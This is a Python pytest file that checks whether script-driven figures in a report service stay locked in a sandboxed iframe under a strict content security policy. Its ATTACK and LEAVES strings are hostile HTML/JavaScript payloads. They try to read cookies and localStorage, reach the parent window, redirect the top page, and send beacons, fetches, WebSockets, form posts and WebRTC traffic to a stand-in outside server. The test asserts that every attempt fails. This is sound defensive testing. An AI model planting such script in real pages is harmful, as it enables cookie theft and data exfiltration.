"""Figures that scripts draw, in frames of a report: drawn, and shut in."""

import http.server
import io
import json
import re
import socket
import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
import requests
from pypdf import PdfReader

from tests.conftest import Program, code, notebook, programs, tool

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

BEARER = {"Authorization": "Bearer the token"}
PLOTLY = {
    "data": [{"type": "scatter", "x": [1, 2, 3], "y": [1, 3, 2]}],
    "layout": {"title": {"text": "Drawn </script> by Plotly"}, "height": 320},
}
ATTACK = """<div id="told"></div><script>
const told = [], tell = (name, what) => {
  told.push(`${name}: ${what}`); document.getElementById("told").textContent = told.join(" | "); };
const attempt = async (name, act) => {
  try { await act(); tell(name, "DONE"); } catch (error) { tell(name, "refused"); } };
(async () => {
  tell("origin", self.origin);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location.href = "SERVER/top"; });
  await attempt("storage", () => localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("fetch", () => fetch("SERVER/fetch", {mode: "no-cors"}));
  await attempt("own", () => fetch("/jobs"));
  await attempt("import", () => import("SERVER/import.js"));
  await attempt("worker", () => new Worker("data:text/javascript,fetch('SERVER/worker')"));
  await attempt("open", () => open("SERVER/open").document);
  navigator.sendBeacon("SERVER/beacon");
  new Image().src = "SERVER/image";
  new EventSource("SERVER/events");
  new WebSocket("SERVER/socket".replace("http", "ws"));
  document.body.append(Object.assign(document.createElement("iframe"), {src: "SERVER/frame"}));
  const form = Object.assign(document.createElement("form"), {action: "SERVER/form"});
  document.body.append(form); form.submit();
  try {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:STUN"}]});
    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());
  } catch (error) { tell("peer", "refused"); }
  const within = "<script>PEER</" + "script>";
  await attempt("srcdoc", () => {
    document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: within})); });
  document.body.insertAdjacentHTML("beforeend", `<iframe srcdoc="${within}"></iframe>`);
  const space = "http://www.w3.org/1999/xhtml", coded = within.replaceAll("<", "&lt;");
  await attempt("xml", () => {
    const found = new DOMParser().parseFromString(
      `<h:html xmlns:h="${space}"><h:iframe srcdoc="${coded}"/></h:html>`, "application/xhtml+xml");
    document.body.append(document.adoptNode(found.getElementsByTagNameNS(space, "iframe")[0])); });
  await attempt("xslt", () => new XSLTProcessor());
  setTimeout(() => tell("end", "of it"), 700);
})();
</script><iframe srcdoc="&lt;script&gt;PEER&lt;/script&gt;"></iframe>"""
PEER = (
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then((one) => peer.setLocalDescription(one))"
)
LEAVES = "<p></p><script>location.href = 'SERVER/leaves'</script>"


class Outside:
    """A server, and a port of UDP, that nothing should reach."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Answers(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)

    def written(self, text: str) -> str:
        stun = f"127.0.0.1:{self.udp.getsockname()[1]}"
        text = text.replace("PEER", PEER)
        return text.replace("SERVER", f"http://127.0.0.1:{self.server.server_port}").replace(
            "STUN", stun
        )

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.udp.close()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Program]:
    for make in programs(tmp_path_factory.mktemp("figures")):
        yield make({"gateway": {"enabled": True, "port": 0, "token": "the token"}}).start()


@pytest.fixture(scope="module")
def job(program: Program, outside: Outside) -> str:
    def shows(bundle: dict[str, Any], *tags: str) -> dict[str, Any]:
        return code(f"import json; display(json.loads({json.dumps(bundle)!r}), raw=True)", *tags)

    cells = [
        shows({"application/vnd.plotly.v1+json": PLOTLY}),
        shows({"text/html": outside.written(ATTACK)}),
        shows({"text/html": outside.written(LEAVES)}),
        shows({"text/html": "<div></div><script>'never seen'</script>"}, "remove_output"),
        shows({"text/html": "<div></div><script src='https://example.com/d3.js'></script>"}),
    ]
    asked = {"notebook": notebook(*cells), "name": "figures"}
    done = requests.post(f"{program.url}/run", json=asked, headers=BEARER, timeout=90)
    assert done.status_code == 200, done.text
    return str(done.json()["job_id"])


def get(program: Program, path: str, **headers: str) -> requests.Response:
    return requests.get(f"{program.url}{path}", headers=headers, timeout=90)


def share(program: Program, job: str, **body: str) -> str:
    url = f"{program.url}/jobs/{job}/shares"
    return str(requests.post(url, json=body, headers=BEARER, timeout=90).json()["url"])


def look(page: "Page", outside: Outside) -> None:
    """Look at a report with its figures: one is drawn, one may do nothing, one stays."""
    drawn = page.frame_locator("iframe").nth(0)
    drawn.locator("svg.main-svg").first.wait_for()
    assert "Drawn" in (drawn.locator(".gtitle").text_content() or "")
    told = page.frame_locator("iframe").nth(1).locator("#told", has_text="end: of it")
    told.scroll_into_view_if_needed()
    found = dict(one.split(": ") for one in told.inner_text().split(" | "))
    assert found.pop("origin") == "null"
    assert found.pop("end") == "of it"
    allowed = {name for name, what in found.items() if what == "DONE"}
    assert allowed <= {"worker"}, found
    page.locator("iframe").nth(2).scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")
    assert page.locator("iframe").count() == 3
    assert outside.asked == []
    with pytest.raises(BlockingIOError):
        outside.udp.recv(100)


def test_a_figure_is_drawn_and_can_reach_nothing(
    program: Program, job: str, outside: Outside, browser: "Browser"
) -> None:
    """By a link: whoever has it has no cookie; the page around it stays where it is."""
    page = browser.new_page()
    url = f"{program.url}{share(program, job, figures='live')}"
    page.goto(url)
    look(page, outside)
    assert page.url == url
    page.close()


def test_a_figure_is_drawn_for_who_has_logged_in(
    program: Program, job: str, outside: Outside, browser: "Browser"
) -> None:
    """A frame brings no cookie: its origin is its own. So its address lets it in."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{program.url}/ui/login")
    page.fill("input[name=token]", "the token")
    page.press("input[name=token]", "Enter")
    page.goto(f"{program.url}/jobs/{job}/report?figures=live&theme=dark")
    look(page, outside)
    context.close()


def test_a_figure_is_seen_only_in_a_report_that_shows_it(program: Program, job: str) -> None:
    """By its number, with the right policy; not by itself, and not where figures are still."""
    live, still = share(program, job, figures="live"), share(program, job)
    report = get(program, live)
    policy = report.headers["Content-Security-Policy"]
    assert "allow-scripts" in policy
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "allow-same-origin" not in policy
    assert report.text.count("<iframe") == 3
    assert "An output that needs a script" in report.text
    figure = get(program, f"{live}/figures/0")
    policy = figure.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'; ")
    assert "Plotly.newPlot" in figure.text
    assert get(program, f"/jobs/{job}/report/figures/0", **BEARER).text == figure.text
    assert get(program, f"/jobs/{job}/report/figures/0").status_code == 401
    for address in (f"{still}/figures/0", f"{live}/figures/3", f"{live}/figures/x", "/shared/x"):
        answer = get(program, address)
        assert (answer.status_code, "never seen" in answer.text) == (404, False)
    assert get(program, f"{live}/figures/0", **{"Sec-Fetch-Dest": "document"}).status_code == 404
    shown = get(program, still)
    assert "<iframe" not in shown.text
    assert "A Plotly figure, which only a script can draw" in shown.text
    assert "allow-scripts" not in shown.headers["Content-Security-Policy"]
    text = get(program, f"/jobs/{job}/report?figures=live&format=md", **BEARER).text
    assert re.search("<iframe|figures/", text) is None


def test_live_figures_are_drawn_in_a_pdf(program: Program, job: str, outside: Outside) -> None:
    """As lines and letters, by a browser without a network."""
    tool("chromium")
    path = f"/jobs/{job}/report?format=pdf"
    texts = []
    for address in (path, f"{path}&figures=live"):
        answer = get(program, address, **BEARER)
        assert answer.status_code == 200, answer.text
        pages = PdfReader(io.BytesIO(answer.content)).pages
        texts.append("".join(page.extract_text() for page in pages))
    assert "A Plotly figure, which only a script can draw" in texts[0]
    assert "Drawn" in texts[1]
    assert "origin: null" in texts[1]
    assert "DONE" not in texts[1].replace("worker: DONE", "")
    assert outside.asked == []
